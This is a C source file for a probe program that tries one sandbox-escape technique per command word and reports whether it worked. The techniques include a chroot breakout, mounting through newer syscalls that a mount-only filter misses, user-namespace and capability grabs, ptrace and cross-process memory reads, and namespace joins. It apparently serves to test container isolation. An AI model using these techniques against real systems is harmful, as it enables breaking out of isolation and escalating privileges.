/*
 * One attack for each word: `probe WORD [ARGUMENT]`. Prints `done` and ends with 0 where it worked; else the call that
 * was refused with its errno, and ends with 1. Static, so that it runs in any tree.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

static int refused(const char *call) {
  printf("refused: %s: %s\n", call, strerrorname_np(errno));
  return 1;
}

static int done(void) {
  puts("done");
  return 0;
}

static int show(const char *path) {
  char text[256];
  int fd = open(path, O_RDONLY);
  if (fd < 0) return refused("open");
  ssize_t count = read(fd, text, sizeof text);
  if (count < 0) return refused("read");
  fwrite(text, 1, (size_t)count, stdout);
  return 0;
}

/* A directory that was open before the root changed leads above the new root (chroot(2), notes). */
static int chroot_out(const char *path) {
  if (mkdir("/out", 0700) < 0 && errno != EEXIST) return refused("mkdir");
  if (chroot("/out") < 0) return refused("chroot");
  for (int level = 0; level < 64; level++) {
    if (chdir("..") < 0) return refused("chdir");
  }
  if (chroot(".") < 0) return refused("chroot");
  return show(path);
}

/* A file by its number on the disk, whatever root one has (open_by_handle_at(2)). */
static int by_handle(const char *path) {
  struct { struct file_handle head; unsigned char bytes[128]; } handle = { .head.handle_bytes = 128 };
  int mount_id;
  if (name_to_handle_at(AT_FDCWD, path, &handle.head, &mount_id, 0) < 0) return refused("name_to_handle_at");
  int root = open(path, O_RDONLY);
  if (open_by_handle_at(root, &handle.head, O_RDONLY) < 0) return refused("open_by_handle_at");
  return done();
}

static int mount_old(const char *target) {
  if (mount("tmpfs", target, "tmpfs", 0, "") < 0) return refused("mount");
  return done();
}

/* The calls that came with Linux 5.2: a filter that knows only mount(2) lets them pass. */
static int mount_new(const char *target) {
  int fs = (int)syscall(SYS_fsopen, "tmpfs", 0);
  if (fs < 0) return refused("fsopen");
  if (syscall(SYS_fsconfig, fs, 6, NULL, NULL, 0) < 0) return refused("fsconfig");
  int made = (int)syscall(SYS_fsmount, fs, 0, 0);
  if (made < 0) return refused("fsmount");
  if (syscall(SYS_move_mount, made, "", AT_FDCWD, target, 4) < 0) return refused("move_mount");
  return done();
}

static int tree_copy(const char *path) {
  if (syscall(SYS_open_tree, AT_FDCWD, path, 1) < 0) return refused("open_tree");
  return done();
}

static int unmount_at(const char *target) {
  if (umount2(target, MNT_DETACH) < 0) return refused("umount2");
  return done();
}

static int raises(unsigned capability) {
  struct __user_cap_header_struct header = { _LINUX_CAPABILITY_VERSION_3, 0 };
  struct __user_cap_data_struct sets[2];
  if (syscall(SYS_capget, &header, sets) < 0) return 0;
  return (sets[capability / 32].effective >> (capability % 32)) & 1;
}

static int has_admin(void) {
  if (raises(CAP_SYS_ADMIN)) return done();
  puts("refused: CAP_SYS_ADMIN is not there");
  return 1;
}

static int new_user_by_unshare(void) {
  if (unshare(CLONE_NEWUSER) < 0) return refused("unshare");
  return has_admin();
}

static int child_has_admin(void *unused) {
  (void)unused;
  return has_admin();
}

static int wait_for(pid_t child) {
  int status;
  if (waitpid(child, &status, 0) < 0) return refused("waitpid");
  return WIFEXITED(status) ? WEXITSTATUS(status) : 1;
}

static int new_user_by_clone(void) {
  static char stack[65536];
  pid_t child = clone(child_has_admin, stack + sizeof stack, CLONE_NEWUSER | SIGCHLD, NULL);
  return child < 0 ? refused("clone") : wait_for(child);
}

static int new_user_by_clone3(void) {
  unsigned long long arguments[8] = { CLONE_NEWUSER, 0, 0, 0, SIGCHLD, 0, 0, 0 };
  pid_t child = (pid_t)syscall(SYS_clone3, arguments, sizeof arguments);
  if (child < 0) return refused("clone3");
  if (child == 0) {
    int result = has_admin();
    fflush(stdout);
    _exit(result);
  }
  return wait_for(child);
}

static int raise_all(void) {
  struct __user_cap_header_struct header = { _LINUX_CAPABILITY_VERSION_3, 0 };
  struct __user_cap_data_struct sets[2] = { { ~0u, ~0u, ~0u }, { 0x1ff, 0x1ff, 0x1ff } };
  if (syscall(SYS_capset, &header, sets) < 0) return refused("capset");
  return has_admin();
}

/* Whoever may give capabilities to a file must not gain what it lacks by executing it (capabilities(7)). */
static int by_file(const char *self) {
  struct vfs_cap_data data = { VFS_CAP_REVISION_2 | VFS_CAP_FLAGS_EFFECTIVE, { { 1u << CAP_SYS_ADMIN, 0 }, { 0, 0 } } };
  if (setxattr(self, "security.capability", &data, sizeof data, 0) < 0) return refused("setxattr");
  execl(self, self, "has-admin", (char *)NULL);
  return refused("execve");
}

static int attach(pid_t target) {
  if (ptrace(PTRACE_ATTACH, target, NULL, NULL) < 0) return refused("ptrace");
  waitpid(target, NULL, 0);
  ptrace(PTRACE_DETACH, target, NULL, NULL);
  return done();
}

static int read_memory(pid_t target, const char *address) {
  char byte;
  struct iovec here = { &byte, 1 }, there = { (void *)strtoul(address, NULL, 16), 1 };
  if (process_vm_readv(target, &here, 1, &there, 1, 0) < 0) return refused("process_vm_readv");
  return done();
}

static int descriptor_of(pid_t target) {
  if (syscall(SYS_pidfd_open, target, 0) < 0) return refused("pidfd_open");
  return done();
}

static int signal_to(pid_t target) {
  if (kill(target, 0) < 0) return refused("kill");
  return done();
}

static int join_namespace(const char *path) {
  int fd = open(path, O_RDONLY);
  if (fd < 0) return refused("open");
  if (setns(fd, 0) < 0) return refused("setns");
  return done();
}

/* No module: a kernel that lets us in complains of its form, which is as far as this goes. */
static int load_module(void) {
  static const char bytes[64] = "no module";
  syscall(SYS_init_module, bytes, sizeof bytes, "");
  return errno == ENOEXEC ? done() : refused("init_module");
}

/* To the time that it is. */
static int set_clock(void) {
  struct timespec now;
  clock_gettime(CLOCK_REALTIME, &now);
  if (clock_settime(CLOCK_REALTIME, &now) < 0) return refused("clock_settime");
  return done();
}

static int connect_abstract(const char *name) {
  struct sockaddr_un address = { .sun_family = AF_UNIX };
  strncpy(address.sun_path + 1, name, sizeof address.sun_path - 2);
  int fd = socket(AF_UNIX, SOCK_STREAM, 0);
  if (connect(fd, (struct sockaddr *)&address, (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name))) < 0) return refused("connect");
  return done();
}

static int connect_tcp(const char *host, const char *port) {
  struct sockaddr_in address = { .sin_family = AF_INET, .sin_port = htons((unsigned short)atoi(port)), .sin_addr.s_addr = inet_addr(host) };
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  alarm(2);
  if (connect(fd, (struct sockaddr *)&address, sizeof address) < 0) return refused("connect");
  return done();
}

/* Whatever the runtime has open and does not close is a way out, or a way in. */
static int descriptors(void) {
  int found = 0;
  for (int fd = 3; fd < 4096; fd++) {
    if (fcntl(fd, F_GETFD) >= 0) found = fd;
  }
  if (found > 0) return done();
  puts("refused: no descriptor is open beside the three");
  return 1;
}

static int attack(const char *word, const char *argument, const char *more) {
  int number = atoi(argument);
  if (!strcmp(word, "chroot-out")) return chroot_out(argument);
  if (!strcmp(word, "by-handle")) return by_handle(argument);
  if (!strcmp(word, "mount")) return mount_old(argument);
  if (!strcmp(word, "mount-new")) return mount_new(argument);
  if (!strcmp(word, "tree-copy")) return tree_copy(argument);
  if (!strcmp(word, "umount")) return unmount_at(argument);
  if (!strcmp(word, "has-admin")) return has_admin();
  if (!strcmp(word, "user-unshare")) return new_user_by_unshare();
  if (!strcmp(word, "user-clone")) return new_user_by_clone();
  if (!strcmp(word, "user-clone3")) return new_user_by_clone3();
  if (!strcmp(word, "raise")) return raise_all();
  if (!strcmp(word, "by-file")) return by_file(argument);
  if (!strcmp(word, "attach")) return attach(number);
  if (!strcmp(word, "read-memory")) return read_memory(number, more);
  if (!strcmp(word, "pidfd")) return descriptor_of(number);
  if (!strcmp(word, "signal")) return signal_to(number);
  if (!strcmp(word, "setns")) return join_namespace(argument);
  if (!strcmp(word, "module")) return load_module();
  if (!strcmp(word, "abstract")) return connect_abstract(argument);
  if (!strcmp(word, "clock")) return set_clock();
  if (!strcmp(word, "tcp")) return connect_tcp(argument, more);
  if (!strcmp(word, "descriptors")) return descriptors();
  printf("unknown attack: %s\n", word);
  return 2;
}

int main(int count, char **words) {
  setvbuf(stdout, NULL, _IONBF, 0);
  return attack(count > 1 ? words[1] : "", count > 2 ? words[2] : "", count > 3 ? words[3] : "");
}
